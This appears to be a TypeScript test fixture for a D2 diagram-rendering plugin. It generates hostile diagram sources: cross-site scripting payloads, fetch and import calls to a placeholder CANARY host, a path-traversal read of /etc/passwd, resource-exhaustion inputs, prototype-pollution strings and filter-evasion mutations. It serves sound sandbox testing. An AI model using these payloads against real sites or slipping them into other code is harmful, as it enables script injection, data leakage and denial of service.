@@ -1,0 +1,172 @@
+/** Sources that try to run, to load, to leave the picture, or to make a page unusable. `CANARY` stands for another host. */
+import {randomNumbers} from '../../../plugins/d2/randomNumbers';
+
+/** What an attacker would run. Whichever comes through is seen: by the canary, by `hit`, or in the console. */
+const SCRIPTS = [
+  'globalThis.hit=1',
+  'fetch(`CANARY/x`)',
+  'fetch("CANARY/x")',
+  "import('CANARY/x.js')",
+  'importScripts("CANARY/x.js")',
+  'new Worker(URL.createObjectURL(new Blob(["fetch(`CANARY/w`)"])))',
+  'new WebSocket("CANARY/s".replace("http","ws"))',
+  'indexedDB.open("x")',
+  'caches.open("x").then(c=>c.put("CANARY/c",new Response("x")))',
+  'postMessage({type:"drawn"})',
+  'self.close()',
+];
+
+/** Sources around a script: D2 puts connections' ids and LaTeX into scripts, and classes and Markdown into pictures. */
+const AROUND: readonly ((script: string) => string)[] = [
+  (script) => `"\${${script}}" -> b`,
+  (script) => `'\${${script}}' -> b: x`,
+  (script) => `a -> "\${${script}}"\na -> b`,
+  (script) => `"\`+(${script})+\`" -> b`,
+  (script) => `"\`});${script};g.setEdge({v:\`0\`,w:\`1\`,name:\`" -> b`,
+  (script) => `x: {"\${${script}}": {y -> z}}`,
+  (script) => `shape: sequence_diagram\n"\${${script}}" -> b: hi`,
+  (script) => `grid-rows: 2\n"\${${script}}" -> b`,
+  (script) => `a: |latex \${${script}} |\na -> b`,
+  (script) => `a: |latex \`+(${script})+\` |`,
+  (script) => `a: |latex \\text{\`, {em:1,ex:1}));${script};((\`} |`,
+  (script) => `a: |md\n  <script>${script}</script>\n|`,
+  (script) => `a: |md\n  <img src="x" onerror='${script}'>\n|`,
+  (script) => `a: |md\n  <a href='javascript:${script}'>x</a>\n|`,
+  (script) => `a: |md\n  <iframe srcdoc='<script>${script}</script>'></iframe>\n|`,
+  (script) =>
+    `a: |md\n  <svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script></svg>\n|`,
+  (script) => `a: x {link: 'javascript:${script}'}`,
+  (script) => `a: x {tooltip: '<script>${script}</script>'}`,
+  (script) => `a.class: 'x"><script>${script}</script><g class="'`,
+  (script) => `a.class: ['y" onload="${script.replaceAll('"', "'")}']`,
+  (script) => `a: '</text><script>${script}</script>'`,
+  (script) => `a: |\`js ${script} \`|`,
+  (script) => `a -> b: '<script>${script}</script>'`,
+  (script) => `a: {shape: sql_table; "<script>${script}</script>": int}`,
+  (script) => `a: {shape: class; "<img onerror='${script.replaceAll("'", '`')}'>": int}`,
+];
+
+/** Sources that would load something from another host. */
+const LOADING = [
+  'a: {icon: CANARY/i.png}',
+  'a: {shape: image; icon: CANARY/i.svg}',
+  'a: {icon: //CANARY/i.png}',
+  'a: |md\n  ![x](CANARY/i.png)\n|',
+  'a: |md\n  <img src="CANARY/i.png"/>\n|',
+  'a: |md\n  <img srcset="CANARY/i.png 2x"/>\n|',
+  'a: |md\n  <style>@import "CANARY/s.css";</style>\n|',
+  'a: |md\n  <style>@im<!-- -->port "CANARY/s.css";</style>\n|',
+  'a: |md\n  <link rel="stylesheet" href="CANARY/s.css"/>\n|',
+  'a: |md\n  <p style="background:url(CANARY/b.png)">x</p>\n|',
+  'a: |md\n  <p style="background:u\\72l(CANARY/b.png)">x</p>\n|',
+  'a: |md\n  <p style="background:image-set(\'CANARY/b.png\' 1x)">x</p>\n|',
+  'a: |md\n  <p style="background:cross-fade(url(CANARY/b.png), red)">x</p>\n|',
+  'a: |md\n  <p style="background:src(\'CANARY/b.png\')">x</p>\n|',
+  'a: |md\n  <video src="CANARY/v.mp4" autoplay=""></video>\n|',
+  'a: |md\n  <iframe src="CANARY/f"></iframe>\n|',
+  'a: |md\n  <object data="CANARY/o"></object>\n|',
+  'a: |md\n  <embed src="CANARY/e"/>\n|',
+  'a: |md\n  <form action="CANARY/f"><input name="x"/></form>\n|',
+  'a: |md\n  <meta http-equiv="refresh" content="0;url=CANARY/m"/>\n|',
+  'a: |md\n  <base href="CANARY/"/><img src="x"/>\n|',
+  'a: |md\n  <a href="CANARY/" ping="CANARY/p">x</a>\n|',
+  'a: |md\n  <svg xmlns="http://www.w3.org/2000/svg"><use href="CANARY/u.svg#x"/><image href="CANARY/i.png"/></svg>\n|',
+  'a: |md\n  <svg xmlns="http://www.w3.org/2000/svg"><feImage href="CANARY/i.png"/></svg>\n|',
+  'a: |md\n  <math><maction actiontype="statusline#CANARY/">x</maction></math>\n|',
+  `a.class: 'x"><image href="CANARY/i.png"/><style>@import "CANARY/s.css"</style><g class="'`,
+  `a.class: 'x" style="fill:url(CANARY/f.svg#x)" y="'`,
+  `a.style.fill: 'linear-gradient(url(CANARY/g.png), red)'`,
+  '...@CANARY/x',
+  'a: @"CANARY/x.d2"',
+  'a: @../../../etc/passwd',
+  'vars: {d2-config: {theme-overrides: {B1: "url(CANARY/t.png)"}}}\na',
+  'a: {icon: data:image/svg+xml,%3Csvg xmlns="http://www.w3.org/2000/svg"%3E%3Cimage href="CANARY/d.png"/%3E%3C/svg%3E; shape: image}',
+];
+
+const use = (depth: number): string =>
+  Array.from({length: depth}, (_, i) => `<g id="u${i + 1}">${`<use href="#u${i}"/>`.repeat(10)}</g>`).join('');
+
+/** Sources that would take a browser very long. Each is answered or ended within the limits. */
+const HEAVY = [
+  `a: |md\n  <svg xmlns="http://www.w3.org/2000/svg"><path id="u0" d="M0 0h9v9z"/>${use(9)}</svg>\n|`,
+  `a.class: 'x"><path id="u0" d="M0 0h9v9z"/>${use(9)}<g class="'`,
+  `a.class: 'x">${'<g>'.repeat(3000)}<g class="'`,
+  `a.class: 'x">${'<pattern id="p" width="1" height="1"><rect width="9" height="9" fill="url(#p)"/></pattern>'.repeat(50)}<rect width="9000" height="9000" fill="url(#p)"/><g class="'`,
+  `a: "${'\\n'.repeat(20_000)}x"`,
+  `a: "${'x'.repeat(200_000)}"`,
+  `a: {width: 10000000; height: 10000000}`,
+  `a: {width: 40000; height: 20}`,
+  Array.from({length: 300}, (_, i) => `n${i} -> n${(i * 7) % 300}`).join('\n'),
+  `a: |latex \\def\\x{\\x\\x}\\x |`,
+  `a: |latex ${'{'.repeat(5000)} |`,
+  'a.style.font-size: 100000000',
+  `a: |md\n${'  > '.repeat(500)}x\n|`,
+];
+
+/** Sources that would break what shows them. */
+const ODD = [
+  '',
+  '\0',
+  '\u2028\u2029',
+  '\ud800',
+  'a: "\ud800\udfff\uffff\ufffe\u0001"',
+  '__proto__ -> constructor: prototype',
+  'toString.__proto__.x: 1',
+  'a: "]]>"\na.tooltip: "]]><script>globalThis.hit=1</script>"',
+  'a: "<!--"\nb: "-->"',
+  'a: "&lt;script&gt;&#60;script&#62;"',
+  'a: "%3Cscript%3E"',
+  'a -> b: "${x}"',
+  'vars: {x: "<img src=x onerror=globalThis.hit=1>"}\na: ${x}',
+  'layers: {"<script>": {x: "<script>globalThis.hit=1</script>"}}\na.link: layers."<script>"',
+  '[1;{a:2}',
+  'a: |`|',
+  '*: *',
+  '**: {&shape: x}\na',
+  'a: null\na -> null',
+  '#'.repeat(1000),
+  '{'.repeat(1000),
+  '"'.repeat(999),
+];
+
+/** Changes that often get past a check: letters' case, entities, splits, other quotes. */
+const MUTATIONS: readonly ((text: string, below: (bound: number) => number) => string)[] = [
+  (text) =>
+    text.replace(/<(\/?)(script|style|img|svg|iframe)/gi, (_, slash, name: string) => `<${slash}${name.toUpperCase()}`),
+  (text) => text.replace(/<script/g, '<svg:script xmlns:svg="http://www.w3.org/2000/svg"'),
+  (text) => text.replace(/javascript:/g, 'java&#x09;script:'),
+  (text) => text.replace(/javascript:/g, ' JaVaScRiPt:'),
+  (text) => text.replace(/on(error|load|click)/g, 'oN$1'),
+  (text) => text.replace(/(<\w+) /g, '$1/'),
+  (text) => text.replace(/"/g, "'"),
+  (text) => text.replace(/url\(/g, 'url/**/('),
+  (text) => text.replace(/@import/g, '@\\69mport'),
+  (text) => text.replace(/</g, '&lt;'),
+  (text) => text.replace(/\$\{/g, '\\${'),
+  (text) => text.replace(/`/g, '\\`'),
+  (text, below) => `${text.slice(0, below(text.length + 1))}\u200b${text.slice(below(text.length + 1))}`,
+  (text, below) => text.slice(below(20)),
+  (text, below) => text.slice(0, text.length - below(20)),
+  (text) => `direction: right\n${text}\nz: {style.animated: true}`,
+  (text) => `layers: {x: {\n${text}\n}}`,
+  (text) => `x: {\n${text}\n}`,
+];
+
+function mutations(sources: readonly string[], count: number): string[] {
+  const below = randomNumbers(20);
+  return Array.from({length: count}, () => {
+    let source = sources[below(sources.length)] ?? '';
+    for (let times = 1 + below(2); times > 0; times--)
+      source = MUTATIONS[below(MUTATIONS.length)]?.(source, below) ?? source;
+    return source;
+  });
+}
+
+/** All sources, the same in every run. @param canary origin of another host */
+export function hostileSources(canary: string): {quick: string[]; heavy: string[]} {
+  const around = AROUND.map((wrap, i) => wrap(SCRIPTS[i % SCRIPTS.length] ?? ''));
+  const scripts = SCRIPTS.flatMap((script) => [0, 8, 11, 18].map((i) => AROUND[i]?.(script) ?? ''));
+  const written = [...around, ...scripts, ...LOADING, ...ODD];
+  const named = (list: readonly string[]) => list.map((source) => source.replaceAll('CANARY', canary));
+  return {quick: named([...new Set([...written, ...mutations(written, 190)])]), heavy: named(HEAVY)};
+}
